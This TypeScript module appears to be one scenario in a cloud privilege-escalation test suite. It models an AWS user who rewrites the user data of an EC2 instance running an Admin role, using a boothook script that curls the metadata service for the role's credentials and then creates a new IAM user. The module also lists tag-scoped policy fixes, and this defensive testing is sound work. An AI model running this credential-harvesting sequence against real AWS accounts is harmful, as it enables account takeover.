import { allow, user, userPolicy, when } from '../documents.ts';
import { hostRole, launchedId, launches, takesCredentials } from '../hosts.ts';
import type { CallStep, PathRow } from '../row.ts';

/** Cloud-init runs a boothook at each start, not only at the first. */
const script =
  '#cloud-boothook\n#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/Admin\n';
const rewriting = ['ec2:StopInstances', 'ec2:ModifyInstanceAttribute', 'ec2:StartInstances'];

const tagged = (team: string) => ({
  TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'team', Value: team }] }],
});
const on = (of: string, call: string, more: object = {}): CallStep => ({
  call,
  as: 'user/Eve',
  with: (answers) =>
    call === 'ec2:ModifyInstanceAttribute'
      ? { InstanceId: launchedId(answers, of), ...more }
      : { InstanceIds: [launchedId(answers, of)] },
});
const rewrite = (of: string, text: string): readonly CallStep[] => [
  on(of, 'ec2:StopInstances'),
  on(of, 'ec2:ModifyInstanceAttribute', { UserData: { Value: new TextEncoder().encode(text) } }),
  on(of, 'ec2:StartInstances'),
];

export const row: PathRow = {
  row: '44',
  title: 'User data rewritten on an instance with a strong role',
  given: [
    ...hostRole('Admin', allow('*')),
    launches('box', { IamInstanceProfile: { Name: 'Admin' }, ...tagged('platform') }),
    launches('site', tagged('web')),
    ...user('Eve', allow(rewriting)),
  ],
  attacker: 'user/Eve',
  attack: [...rewrite('box', script), takesCredentials('box', 'admin', script)],
  gain: { call: 'iam:CreateUser', with: { UserName: 'Mole' }, as: 'from:admin' },
  fixes: [
    {
      what: 'the instances of the own team, by their tag',
      steps: [userPolicy('Eve', allow(rewriting, '*', when('StringEquals', 'aws:ResourceTag/team', 'web')))],
      stops: 'ec2:StopInstances',
    },
    {
      what: 'user data of others left as it is',
      steps: [
        userPolicy(
          'Eve',
          allow(['ec2:StopInstances', 'ec2:StartInstances']),
          allow('ec2:ModifyInstanceAttribute', '*', when('StringEquals', 'ec2:ResourceTag/team', 'web')),
        ),
      ],
      stops: 'ec2:ModifyInstanceAttribute',
    },
  ],
  work: rewrite('site', '#!/bin/sh\necho hello\n'),
};
